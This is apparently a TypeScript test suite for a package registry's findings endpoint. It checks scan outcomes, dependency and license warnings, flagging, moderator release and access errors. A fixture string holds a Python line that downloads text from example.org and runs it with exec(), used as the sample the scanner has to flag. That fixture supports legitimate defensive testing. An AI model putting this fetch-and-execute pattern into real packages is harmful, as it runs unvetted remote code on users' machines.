import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { assertRefused } from '../../support/assert-refused.ts';
import { makePublisher, publishPending, zip } from '../../support/build.ts';
import { startServer } from '../../support/start-server.ts';
import { suiteOnBoth } from '../../support/variants.ts';

const path = (nodeId: string) => `/nodes/${nodeId}/versions/1.0.0/findings`;

/** What downloads text and runs it, which no package may do. */
const hostile = 'import requests\n\n\nexec(requests.get("https://example.org/x").text)\n';

suiteOnBoth('get-findings', async () => {
  const server = await startServer({ after });
  const ada = await makePublisher(server, 'ada');
  const moderator = await server.moderator();
  const publish = async (nodeId: string, files: Record<string, string>): Promise<void> => {
    const { signedUrl } = await publishPending(ada, nodeId, '1.0.0');
    assert.equal((await server.anonymous.upload(signedUrl, await zip(files))).status, 200);
    await server.settle();
  };

  test('200: before the package came, what the version waits for and until when', async () => {
    await publishPending(ada, 'waiting', '1.0.0');
    const { json } = await ada.owner.get(path('waiting'));
    assert.equal(json.waits_for, 'package');
    assert.ok(Date.parse(json.waits_until) > Date.now());
    assert.deepEqual(json.findings, []);
  });

  test('200: a package that passed, with how its app-nodes were read', async () => {
    await publish('harmless', {
      '__init__.py': 'class Blur:\n    FUNCTION = "run"\n\n\nNODE_CLASS_MAPPINGS = {"Blur": Blur}\n',
    });
    const { json } = await ada.owner.get(path('harmless'));
    assert.deepEqual([json.status, json.outcome, json.findings], ['NodeVersionStatusActive', 'passed', []]);
    assert.equal(json.extraction.status, 'success');
    assert.equal('waits_for' in json, false);
    const { json: list } = await server.anonymous.get('/nodes/harmless/versions/1.0.0/app-nodes');
    assert.deepEqual(list.app_nodes, [
      { app_node_name: 'Blur', function: 'run', policy: 'AppNodePolicyActive' },
    ]);
  });

  test('200: a package whose pyproject.toml says otherwise than the publish passes with warnings', async () => {
    const publish = async (nodeId: string, project: string, node: object, version: object): Promise<void> => {
      const reply = await ada.owner.post(`/publishers/ada/nodes/${nodeId}/versions`, {
        personal_access_token: ada.token,
        node,
        node_version: { version: '1.0.0', ...version },
      });
      assert.equal(reply.status, 201, reply.text);
      const files = { '__init__.py': '', 'pyproject.toml': `[project]\nname = "${nodeId}"\n${project}` };
      assert.equal((await server.anonymous.upload(reply.json.signedUrl, await zip(files))).status, 200);
      await server.settle();
    };
    const project = 'dependencies = ["numpy>=2", "torch"]\nlicense = { file = "LICENSE" }\n';
    const rules = async (nodeId: string) => {
      const { json } = await ada.owner.get(path(nodeId));
      assert.deepEqual([json.status, json.outcome], ['NodeVersionStatusActive', 'passed']);
      return json.findings.map((finding: Record<string, unknown>) => [
        finding['rule'],
        finding['severity'],
        finding['file'],
        finding['excerpt'],
      ]);
    };
    await publish('other', project, { license: 'MIT' }, { dependencies: ['numpy>=1', 'torch', 'scipy'] });
    assert.deepEqual(await rules('other'), [
      ['dependencies-differ', 'warning', 'pyproject.toml', 'numpy, scipy'],
      ['license-differs', 'warning', 'pyproject.toml', undefined],
    ]);
    await publish(
      'same',
      project,
      { license: '{"file": "LICENSE"}' },
      { dependencies: ['Torch', 'numpy >= 2'] },
    );
    assert.deepEqual(await rules('same'), []);
    const odd = 'dependencies = [1, 2]\nlicense = 7\nlicense-files = "LICENSE"\n';
    await publish('odd', odd, { license: 'MIT' }, { dependencies: ['torch'] });
    assert.deepEqual(await rules('odd'), [], 'what is no declaration is not compared');
  });

  test('200: a package with an error is Flagged, and says what, where, why and how to fix it', async () => {
    await publish('hostile', { '__init__.py': hostile, 'tools/build.py': hostile });
    const { json } = await ada.owner.get(path('hostile'));
    assert.deepEqual(
      [json.status, json.outcome, json.waits_for],
      ['NodeVersionStatusFlagged', 'found', 'moderator'],
    );
    assert.ok(json.status_reason.length > 20);
    const [finding, beside] = json.findings.filter(
      ({ severity }: { severity: string }) => severity === 'error',
    );
    assert.deepEqual([finding.file, finding.line, finding.shadow], ['__init__.py', 4, false]);
    // The first file could run any other.
    assert.deepEqual([beside.file, 'imported' in beside], ['tools/build.py', false]);
    assert.ok(finding.means.length > 20 && finding.fix.length > 20);
    assertRefused(await server.anonymous.get('/nodes/hostile/install?version=1.0.0'), 'version_unavailable');

    const released = await moderator.put('/admin/nodes/hostile/versions/1.0.0', {
      status: 'NodeVersionStatusActive',
      status_reason: 'Looked at by hand.',
    });
    assert.equal(released.status, 200);
    const after = (await ada.owner.get(path('hostile'))).json;
    assert.deepEqual([after.status, after.findings], ['NodeVersionStatusActive', json.findings]);
  });

  test('200: what the package does not import is held, and said to be not imported', async () => {
    await publish('beside', { '__init__.py': '', 'tools/build.py': hostile });
    const { json } = await ada.owner.get(path('beside'));
    assert.equal(json.outcome, 'found');
    assert.ok(json.findings.every((found: Record<string, unknown>) => found['imported'] === false));
  });

  test('200: the same bytes give the same verdict', async () => {
    for (const nodeId of ['twin', 'other-twin']) await publish(nodeId, { '__init__.py': hostile });
    const first = (await ada.owner.get(path('twin'))).json;
    const second = (await ada.owner.get(path('other-twin'))).json;
    assert.equal(first.outcome, 'found');
    assert.deepEqual([second.outcome, second.findings], [first.outcome, first.findings]);
  });

  test('401, 403 and 404: an anonymous caller, a stranger, no such version', async () => {
    await publishPending(ada, 'own', '1.0.0');
    assertRefused(await server.anonymous.get(path('own')), 'unauthenticated');
    assertRefused(await (await server.user('stranger')).get(path('own')), 'forbidden');
    assertRefused(await ada.owner.get('/nodes/own/versions/9.9.9/findings'), 'version_not_found');
  });
});
